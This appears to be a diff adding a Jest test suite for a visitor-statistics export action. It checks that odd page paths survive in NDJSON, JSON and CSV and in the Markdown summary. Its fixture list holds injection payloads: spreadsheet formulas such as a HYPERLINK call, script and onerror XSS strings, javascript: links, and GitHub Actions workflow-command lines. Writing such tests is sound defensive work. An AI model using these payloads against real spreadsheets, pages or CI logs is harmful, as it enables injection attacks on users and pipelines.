@@ -1,0 +1,146 @@
+import { expect, test } from '@jest/globals';
+import { micromark } from 'micromark';
+import { gfm, gfmHtml } from 'micromark-extension-gfm';
+import { type DefaultTreeAdapterTypes, parseFragment } from 'parse5';
+import { liveThings } from '../../unit/rendered-markdown.ts';
+import { cellsOf, countedBySets, createExportScene, type Form, pagesOf, rowsIn } from '../../support/visitors-scene.ts';
+
+const ODD = [
+  ...['/"quoted"', '"', '""', "/it's", "'", '/a,b', ',', '/a;b', ';=1+1', '/a\nb', '/a\r\nb', '/a\rb', '\r=1+1'],
+  ...['=1+1', '=HYPERLINK("http://example.com/?"&A1,"x")', '+1', '-1', '@SUM(1)', '\t=1', '|cmd', '%0A=1', ' =1+1'],
+  ...[
+    '\u00a0=1+1',
+    '\u200b=1+1',
+    '\ufeff=1+1',
+    '\uff1d1+1',
+    '\u0000=1',
+    '/nul\u0000',
+    '/emoji-👩‍💻-é-e\u0301-漢字',
+    '/\u202egnp.exe',
+    '   ',
+    '\n',
+  ],
+  ...['/<script>alert(1)</script>', '</code></td></tr></table><img src=x onerror=alert(1)>', '<!-- ', '&lt;b&gt;&#64;'],
+  ...[
+    '`',
+    '```',
+    '/`code`',
+    '`` ` ``',
+    '/a|b',
+    '/a\\|b',
+    '\\',
+    '/**bold**',
+    '[x](javascript:alert(1))',
+    '![x](//e.example/i)',
+  ],
+  ...[
+    '@alice',
+    'mail@example.com',
+    '/#1',
+    'acme/docs#1',
+    'https://example.com',
+    'www.example.com',
+    '/a # b',
+    '~~~',
+    '---',
+  ],
+  ...[
+    '::error::boom',
+    '\n::error::boom',
+    '/x\r::set-output name=verdict::error',
+    '##[error]boom',
+    '\n::add-mask::visitors',
+  ],
+  ...['%%{init: {}}%%', '\n```\n# Heading', '"]\n```\n\n@alice', '#8203;', '#quot;', 'path', 'null', '__proto__'],
+  ...[`/${'x'.repeat(997)}`, `/${'👩'.repeat(498)}`],
+];
+/** The one for the ranking, the other for the file too. */
+const TOO_LONG = [`/${'z'.repeat(998)}`, `/${'y'.repeat(8_192)}`];
+
+const PATHS = [...ODD, ...TOO_LONG];
+const VISITORS = { pages: PATHS.length, seed: 11, paths: PATHS };
+const COUNTED = countedBySets(VISITORS);
+/** Those of the file; the last of them is not ranked. */
+const ROWS = COUNTED.rows.map((row, at) => ({ ...row, path: PATHS[at] ?? '' })).slice(0, -1);
+const RANKED = ROWS.slice(0, -1);
+
+async function exported(form: Form) {
+  await using scene = await createExportScene({ visitors: VISITORS });
+  const file = `visitors.${form}`;
+  const result = await scene.run({ 'visitors-file': file, top: '256' });
+  expect(result).toMatchObject({ exitCode: 0, outputs: { verdict: 'exported', visitorsFile: file } });
+  return { result, text: scene.read(file) };
+}
+
+test.each<{ form: Form }>([{ form: 'ndjson' }, { form: 'json' }])(
+  'odd paths are exact in $form, and in the output `pages`',
+  async ({ form }) => {
+    const { result, text } = await exported(form);
+    expect(rowsIn(text, form)).toEqual(ROWS);
+    const byPath = (rows: typeof ROWS) => rows.toSorted((one, other) => (one.path < other.path ? -1 : 1));
+    expect(byPath(pagesOf(result))).toEqual(byPath(RANKED));
+  },
+);
+
+test('in CSV they come back too, and none is a formula', async () => {
+  const { text } = await exported('csv');
+  const [, ...rows] = cellsOf(text);
+  const paths = rows.map(([path = '']) => path);
+  // An apostrophe tells a spreadsheet that text follows.
+  expect(paths.map((path, at) => (path === PATHS[at] ? path : path.replace(/^'/, '')))).toEqual(PATHS.slice(0, -1));
+  expect(paths.filter((path) => /^[\s\p{C}]*[=+\-@\uff1d\t\r]/u.test(path))).toEqual([]);
+  expect(rows.map(([, ...numbers]) => numbers.map(Number))).toEqual(
+    ROWS.map(({ human, ai, total }) => [human, ai, total]),
+  );
+  expect(paths.filter((path, at) => path !== PATHS[at]).length).toBeLessThan(25);
+  // Whoever splits at semicolons, quotes or not, is no better off: all paths stand in quotes.
+  expect(
+    text
+      .split('"')
+      .filter((_, at) => at % 2 === 0)
+      .join(''),
+  ).not.toMatch(/[;=+@-]/);
+});
+
+test('paths that are too long for it are left out of the ranking or of all, and that is told', async () => {
+  const { result } = await exported('csv');
+  for (const told of [result.log, result.summary, result.outputs.summary]) {
+    expect(told).toContain('Left out, without a proper path or numbers: 1 row.');
+    expect(told).toContain('Not ranked, as their paths are too long: 1 page.');
+    expect(told).not.toMatch(/yyyy|zzzz/);
+  }
+  expect(result.outputs.pages).not.toMatch(/yyyy|zzzz/);
+});
+
+test('no line of the log is a command because of them', async () => {
+  const { result } = await exported('csv');
+  const commands = result.commands.filter(({ name }) => name !== 'add-mask');
+  expect(commands).toEqual([expect.objectContaining({ name: 'warning', message: expect.stringMatching(/^📊 /) })]);
+  expect(result.masks.some((mask) => mask.includes('visitors'))).toBe(false);
+  expect(result.rawLog).not.toContain('boom');
+});
+
+test('the summary is a page of ours: two tables, a picture, and nothing alive in them', async () => {
+  const { result } = await exported('csv');
+  const html = micromark(result.summary, {
+    ...{ allowDangerousHtml: true, allowDangerousProtocol: true },
+    ...{ extensions: [gfm()], htmlExtensions: [gfmHtml()] },
+  });
+  const nodes = all(parseFragment(html));
+  const count = (name: string) => nodes.filter(({ nodeName }) => nodeName === name).length;
+  expect([count('table'), count('pre'), count('h2'), count('h3')]).toEqual([2, 1, 1, 1]);
+  const names = new Set(nodes.map(({ nodeName }) => nodeName));
+  const ours = ['p', 'br', 'h2', 'h3', 'code', 'pre', 'table', 'thead', 'tbody', 'tr', 'th', 'td'];
+  expect([...names].filter((name) => !['#document-fragment', '#text', ...ours].includes(name))).toEqual([]);
+
+  const ranking = nodes.filter(({ nodeName }) => nodeName === 'table').at(-1);
+  const lines = ranking ? all(ranking).filter(({ nodeName }) => nodeName === 'tr') : [];
+  expect(lines).toHaveLength(RANKED.length + 1);
+  for (const line of lines) expect(all(line).filter(({ nodeName }) => /^t[hd]$/.test(nodeName))).toHaveLength(6);
+  expect(liveThings(result.summary.replace(/^```mermaid\n.*?^```$/ms, ''))).toEqual([]);
+});
+
+type Node = DefaultTreeAdapterTypes.Node;
+
+/** A node, and all below it. */
+const all = (node: Node): Node[] => [node, ...('childNodes' in node ? node.childNodes.flatMap(all) : [])];
